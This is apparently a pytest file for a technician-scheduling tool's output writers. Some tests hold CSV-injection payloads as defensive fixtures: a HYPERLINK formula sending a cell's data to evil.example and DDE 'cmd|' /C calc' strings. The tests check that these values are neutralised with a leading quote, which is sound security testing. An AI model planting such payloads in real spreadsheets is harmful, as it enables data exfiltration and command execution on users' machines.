"""Every file the tool writes: a plan, a comparison, a sweep, a re-plan, the geocoding CSVs;
each CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
from factories import FAST, at, line_matrix, order, problem, shift, tech

from optimizer import api, outputs
from optimizer import settings as app_settings
from optimizer.geo.geocode import GeocodeResult, GeocodeRow
from optimizer.io.load import load_scenario
from optimizer.io.schedule_json import read_document, read_json
from optimizer.model import ScheduledBreak
from optimizer.outputs import safe_cell, safe_frame, write_outputs
from optimizer.replanning import Event
from optimizer.report.kpis import with_kpis
from optimizer.solver import solve
from optimizer.sweeps import expand, run_serial

TINY = Path(__file__).parent / "data" / "tiny"

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _read(path):
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_safe_cell_quotes_formulas_and_keeps_numbers():
    """Text starting with = + - @ tab or CR gets a leading quote; numbers stay as they are."""
    assert [safe_cell(v) for v in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                   "\tx", "\rx")] == \
        ["'" + v for v in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx")]
    assert [safe_cell(v) for v in (-5, -5.5, "-5", "-73.985000", "+1.5e3", "Frick AG", "a=b",
                                   "", None)] == \
        [-5, -5.5, "-5", "-73.985000", "+1.5e3", "Frick AG", "a=b", "", None]


def test_safe_frame_covers_cells_index_and_headers():
    """A DataFrame written by pandas is neutralised in its cells, index labels and headers."""
    frame = pd.DataFrame({"-x": ["=1+1", "ok"], "n": [-5, 3]}, index=["@base", "b"])
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'-x", "n"] and list(safe.index) == ["'@base", "b"]
    assert safe["'-x"].tolist() == ["'=1+1", "ok"] and safe["n"].tolist() == [-5, 3]


def test_schedule_tables_neutralise_formulas(tmp_path):
    """Order ids, customers, addresses, technician ids and reasons starting like a formula
    are written with a leading quote in stops.csv, unassigned.csv and the KPI table."""
    evil = replace(order("=1+1", 1), customer=FORMULA)
    dropped = replace(order("@drop", 2, required_skills=frozenset({"x"})),
                      customer="+cmd|' /C calc'!A0")
    p = problem([evil, dropped, order("WO-3", 3)], [tech("-T1")], [shift("-T1")])
    schedule = with_kpis(p, solve(p, line_matrix(4), FAST))
    paths = write_outputs(p, schedule, tmp_path)
    stops = _read(paths["stops"])
    first = next(r for r in stops if r["order_id"] == "'=1+1")
    assert first["customer"] == "'" + FORMULA and first["tech_id"] == "'-T1"
    assert {r["order_id"] for r in stops} == {"'=1+1", "WO-3"}
    assert float(first["lat"]) == 47.01 and float(first["wait_min"]) >= 0
    missed = _read(paths["unassigned"])
    assert [(r["order_id"], r["customer"]) for r in missed] == \
        [("'@drop", "'+cmd|' /C calc'!A0")]
    assert [r["tech_id"] for r in _read(paths["technicians"])] == ["'-T1"]


def test_sweep_csv_neutralises_formulas(tmp_path):
    """sweep.csv quotes a formula in a text cell and keeps negative numbers as numbers."""
    rows = [{"run": "=2+2", "technicians": -1.0, "status": "failed", "error": "@boom"}]
    paths = outputs.write_sweep(rows, ["technicians"], tmp_path)
    assert _read(paths["table"]) == [{"run": "'=2+2", "technicians": "-1.0",
                                      "status": "failed", "error": "'@boom"}]


def test_schedule_json_kpis_hold_both_sla_figures_and_old_files_still_read(tmp_path):
    """schedule.json's kpis carry the all-orders SLA figures and the full objective; a file
    written before those fields existed reads back with them as None."""
    p = problem([order("A", 1, sla_due=at("12:00")),
                 order("B", 2, sla_due=at("12:00"), required_skills=frozenset({"gas"}))],
                [tech("t1")], [shift("t1")])
    schedule = with_kpis(p, solve(p, line_matrix(3), FAST))
    path = write_outputs(p, schedule, tmp_path)["json"]
    data = json.loads(path.read_text(encoding="utf-8"))
    kpis = data["kpis"]
    assert (kpis["sla_orders"], kpis["sla_on_time_pct"]) == (1, 100.0)
    assert (kpis["sla_orders_all"], kpis["sla_unassigned"], kpis["sla_on_time_all_pct"]) == \
        (2, 1, 50.0)
    assert kpis["objective_cost"] == round(kpis["cost"] + kpis["drop_penalty_cost"], 2)
    assert read_json(path).kpis == schedule.kpis
    for key in ("sla_orders_all", "sla_unassigned", "sla_on_time_all_pct", "drop_penalty_cost",
                "objective_cost"):
        del kpis[key]
    path.write_text(json.dumps(data), encoding="utf-8")
    old = read_json(path).kpis
    assert old.sla_on_time_pct == 100.0 and old.sla_orders_all is None
    assert old.objective_cost is None


def test_unassigned_csv_has_a_code_beside_the_reason(tmp_path):
    """unassigned.csv: order_id, customer, priority, code, reason; the code is the machine
    word (NO_SKILL), the reason the dispatcher's sentence."""
    p = problem([order("A", 1, required_skills=frozenset({"lift"})), order("B", 2)],
                [tech("t1")], [shift("t1")])
    schedule = with_kpis(p, solve(p, line_matrix(3), FAST))
    path = write_outputs(p, schedule, tmp_path)["unassigned"]
    with open(path, encoding="utf-8", newline="") as stream:
        assert next(csv.reader(stream)) == ["order_id", "customer", "priority", "code", "reason"]
    assert _read(path) == [{"order_id": "A", "customer": "Customer A", "priority": "normal",
                            "code": "NO_SKILL", "reason": "no technician has the skill lift"}]


@pytest.fixture(scope="module")
def plan():
    """The tiny scenario solved once: T1 does WO-1, T2 does WO-2 then WO-3."""
    return api.solve_scenario(TINY, solution_limit=5)


def test_write_a_plan_gives_its_tables_and_maps(plan, tmp_path):
    """A plan is schedule.json, the three CSVs, the maps (index, overview, one page per
    technician), report.html (linked from the index) and the exports (a calendar per
    technician, routes.geojson, customer_notifications.csv); the tables hold the
    schedule's values."""
    paths = outputs.write(plan, tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "customer_notifications.csv", "index.html", "kpis_by_technician.csv", "overview.html",
        "report.html", "routes.geojson", "schedule.json", "stops.csv", "tech-T1.html",
        "tech-T1.ics", "tech-T2.html", "tech-T2.ics", "timeline.html", "unassigned.csv"]
    assert set(paths) == {"json", "stops", "unassigned", "technicians", "maps", "report",
                          "geojson", "notifications"}
    assert paths["maps"] == tmp_path / "index.html"
    assert 'href="report.html"' in paths["maps"].read_text(encoding="utf-8")
    stops = _read(paths["stops"])
    assert [(r["tech_id"], r["seq"], r["order_id"]) for r in stops] == \
        [(route.tech_id, str(k), stop.order_id) for route in plan.schedule.routes
         for k, stop in enumerate(route.stops, start=1)]
    assert {r["order_id"]: r["customer"] for r in stops}["WO-1"] == "Frick AG"
    assert {r["kind"] for r in stops} == {"visit"}
    assert _read(paths["unassigned"]) == []
    techs = {r["tech_id"]: int(r["orders"]) for r in _read(paths["technicians"])}
    assert techs == {t.tech_id: t.orders for t in plan.schedule.kpis.technicians}
    assert read_json(paths["json"]).meta.scenario == str(TINY)


def test_stops_csv_has_a_row_for_lunch_and_absences_in_time_order(plan, tmp_path):
    """A lunch and an absence are rows of kind ``lunch`` and ``absence`` (label in
    ``customer``), placed among the visits by time, with no order id or sequence number."""
    route = next(r for r in plan.schedule.routes if len(r.stops) == 2)
    first, second = route.stops
    lunch = ScheduledBreak("lunch", first.end, first.end + timedelta(minutes=30))
    dentist = ScheduledBreak("dentist", route.start - timedelta(minutes=60),
                             route.start - timedelta(minutes=20))
    routes = tuple(replace(r, breaks=(lunch, dentist)) if r is route else r
                   for r in plan.schedule.routes)
    paths = write_outputs(plan.problem, replace(plan.schedule, routes=routes), tmp_path)
    rows = [r for r in _read(paths["stops"]) if r["tech_id"] == route.tech_id]
    assert [(r["kind"], r["seq"], r["order_id"], r["customer"]) for r in rows] == [
        ("absence", "", "", "dentist"),
        ("visit", "1", first.order_id, rows[1]["customer"]),
        ("lunch", "", "", "lunch"),
        ("visit", "2", second.order_id, rows[3]["customer"]),
    ]
    assert (rows[2]["start"], rows[2]["end"]) == (f"{lunch.start:%H:%M}", f"{lunch.end:%H:%M}")


def test_privacy_minimal_in_scenario_toml_reaches_the_phone_pages(plan, tmp_path):
    """[privacy] phone_pages = "minimal" leaves the priority off the written phone pages."""
    full = outputs.write(plan, tmp_path / "full")
    minimal = replace(plan, scenario=replace(
        plan.scenario, publish=replace(plan.scenario.publish, phone_pages="minimal")))
    outputs.write(minimal, tmp_path / "min")
    assert "priority high" in (full["maps"].parent / "tech-T1.html").read_text(encoding="utf-8")
    assert "priority" not in (tmp_path / "min" / "tech-T1.html").read_text(encoding="utf-8")


def test_write_without_a_folder_goes_under_settings_output_dir(plan, tmp_path, monkeypatch):
    """With no folder, a plan goes to settings.output_dir/<scenario name>; maps=False skips
    the pages."""
    monkeypatch.setattr(app_settings, "output_dir", tmp_path / "out")
    paths = outputs.write(plan, maps=False)
    assert paths["json"] == tmp_path / "out" / "tiny" / "schedule.json"
    assert "maps" not in paths and not (tmp_path / "out" / "tiny" / "index.html").exists()
    assert outputs.default_folder("../../x", "sweep-") == tmp_path / "out" / "sweep-x"


def test_write_a_comparison_gives_its_page_and_one_kpi_row_per_scenario(tmp_path):
    """compare.csv has the base first, then each what-if, by name; compare.html names both."""
    whatif = tmp_path / "no-t2"
    whatif.mkdir()
    (whatif / "scenario.toml").write_text(
        f'[scenario]\nname = "no-t2"\nbase = "{TINY.resolve().as_posix()}"\n\n'
        '[[changes]]\ntype = "remove_technician"\ntech_id = "T2"\n', encoding="utf-8")
    comparison = api.compare(TINY, [whatif], solution_limit=5)
    page = outputs.write_comparison(comparison, tmp_path / "cmp")
    assert page == tmp_path / "cmp" / "compare.html"
    assert sorted(p.name for p in page.parent.iterdir()) == ["compare.csv", "compare.html"]
    rows = _read(tmp_path / "cmp" / "compare.csv")
    assert [r["scenario"] for r in rows] == ["tiny", "no-t2"]
    assert [float(r["unassigned"]) for r in rows] == [0, 2]
    assert float(rows[0]["scheduled"]) == comparison.rows[0]["scheduled"] == 3
    assert "no-t2" in page.read_text(encoding="utf-8")


def test_write_a_sweep_gives_its_table_and_page(tmp_path):
    """sweep.csv has one row per run, in grid order, with its axis value and KPIs."""
    loaded = load_scenario(TINY)
    runs = expand(loaded.problem, {"technicians": [1, 2]})
    rows = run_serial(runs, api.travel_matrix(loaded.problem, also=[r.problem for r in runs]),
                      loaded.params.with_overrides(solution_limit=5))
    paths = outputs.write_sweep(rows, ["technicians"], tmp_path)
    assert paths == {"table": tmp_path / "sweep.csv", "report": tmp_path / "sweep.html"}
    table = _read(paths["table"])
    assert [(r["run"], r["technicians"], r["status"]) for r in table] == \
        [("technicians=1", "1", "ok"), ("technicians=2", "2", "ok")]
    assert [float(r["scheduled"]) for r in table] == [row["scheduled"] for row in rows]
    assert "technicians" in paths["report"].read_text(encoding="utf-8")


def test_write_a_replan_keeps_the_old_plan_and_lists_the_changes(plan, tmp_path):
    """Written over the published plan: the old schedule.json is kept as
    schedule-before-HHMM.json, changes.csv names the cancelled order, schedule.json records
    the re-plan, and `verify` accepts it with no other input."""
    outputs.write(plan, tmp_path)
    result = api.replan(tmp_path / "schedule.json", [Event("cancelled", order_id="WO-3")],
                        "12:00", solution_limit=5)
    paths = outputs.write_replan(result, tmp_path)
    assert paths["changes"] == tmp_path / "changes.csv"
    assert (tmp_path / "schedule-before-1200.json").exists()
    changes = {r["order_id"]: r for r in _read(paths["changes"])}
    assert list(_read(paths["changes"])[0]) == list(outputs.CHANGE_COLUMNS)
    assert (changes["WO-3"]["status"], changes["WO-3"]["old_tech"]) == ("cancelled", "T2")
    assert changes["WO-3"]["old_start"] == "13:00"
    assert sorted(changes) == ["WO-1", "WO-2", "WO-3"]
    assert (changes["WO-1"]["status"], changes["WO-1"]["old_start"]) == ("completed", "09:00")
    _schedule, record = read_document(paths["json"])
    assert record.cancelled == ("WO-3",) and f"{record.now:%H:%M}" == "12:00"
    assert api.verify_file(paths["json"]) == []


def test_replan_warnings_are_rows_of_changes_csv(plan, tmp_path):
    """A warning of the change list is a `warning` row with the text as its reason."""
    events = [Event("completed", order_id="WO-1"),
              Event("duration", order_id="WO-1", service_min=10, source="e.csv row 3")]
    result = api.replan(plan.schedule, events, "12:00", scenario=TINY, solution_limit=5)
    assert result.changes.warnings
    rows = _read(outputs.write_replan(result, tmp_path)["changes"])
    warned = [r for r in rows if r["status"] == "warning"]
    assert [r["reason"] for r in warned] == list(result.changes.warnings)
    assert all(r["order_id"] == "" for r in warned)


def test_geocode_csvs_neutralise_formulas(tmp_path):
    """Addresses, customers and headers that start like a formula get a leading quote;
    negative coordinates stay numbers."""
    source = tmp_path / "work_orders.csv"
    source.write_text('order_id,customer,address,@col\nWO-1,"=HYPERLINK(""x"")",'
                      '"-Main St 1",+41 79\n', encoding="utf-8")
    row = GeocodeRow("WO-1", "-Main St 1", "ok", confidence=1.0,
                     matched_address="=cmd|' /C calc'!A0", lat=-33.5, lon=-70.25)
    result = GeocodeResult((), (row,), "test")
    with open(outputs.write_geocoded_work_orders(tmp_path / "g.csv", result, source=source),
              encoding="utf-8", newline="") as stream:
        orders = list(csv.reader(stream))
    assert orders[0][:4] == ["order_id", "customer", "address", "'@col"]
    assert orders[1][:8] == ["WO-1", "'=HYPERLINK(\"x\")", "'-Main St 1", "'+41 79",
                             "-33.5000000", "-70.2500000", "'=cmd|' /C calc'!A0", "1"]
    with open(outputs.write_geocode_report(tmp_path / "r.csv", result),
              encoding="utf-8", newline="") as stream:
        report = list(csv.reader(stream))
    assert report[1][:8] == ["WO-1", "'-Main St 1", "ok", "", "1", "'=cmd|' /C calc'!A0",
                             "-33.5000000", "-70.2500000"]


def test_write_geocoding_gives_both_csvs_of_a_scenario(tmp_path):
    """`fsopt geocode` writes geocoded_work_orders.csv (the scenario's work orders, with
    the geocoded columns) and geocode_report.csv, one row per address asked."""
    loaded = load_scenario(TINY)
    row = GeocodeRow("WO-1", "Städtle 1, 9490 Vaduz", "not_found", reason="address not found")
    paths = outputs.write_geocoding(loaded, GeocodeResult((), (row,), "test"), tmp_path)
    assert paths == {"geocoded": tmp_path / "geocoded_work_orders.csv",
                     "report": tmp_path / "geocode_report.csv"}
    geocoded = {r["order_id"]: r for r in _read(paths["geocoded"])}
    assert (geocoded["WO-1"]["lat"], geocoded["WO-1"]["geocode_status"]) == ("", "not_found")
    assert (geocoded["WO-2"]["lat"], geocoded["WO-2"]["geocode_status"]) == ("47.1653", "given")
    assert [(r["order_id"], r["status"], r["reason"]) for r in _read(paths["report"])] == \
        [("WO-1", "not_found", "address not found")]



def test_changes_csv_of_a_plan_of_several_days_dates_its_starts(plan, tmp_path):
    """In a plan of several days a visit may move to another day at the same hour: the
    starts in changes.csv carry their date there (before, both read 10:00), and stay
    HH:MM in a plan of one day."""
    from optimizer.model import ChangeKind
    from optimizer.report.changes import OrderChange

    moved = OrderChange("WO-1", ChangeKind.RETIMED, "T1", "T1", at("10:00"),
                        at("10:00") + timedelta(days=2))
    week = replace(plan, problem=replace(plan.problem, days=3), changes=(moved,))
    rows = _read(outputs.write(week, tmp_path / "week", maps=False)["changes"])
    assert (rows[0]["old_start"], rows[0]["new_start"]) == ("2026-12-01 10:00",
                                                            "2026-12-03 10:00")
    day = replace(plan, changes=(replace(moved, new_start=at("11:00")),))
    rows = _read(outputs.write(day, tmp_path / "day", maps=False)["changes"])
    assert (rows[0]["old_start"], rows[0]["new_start"]) == ("10:00", "11:00")
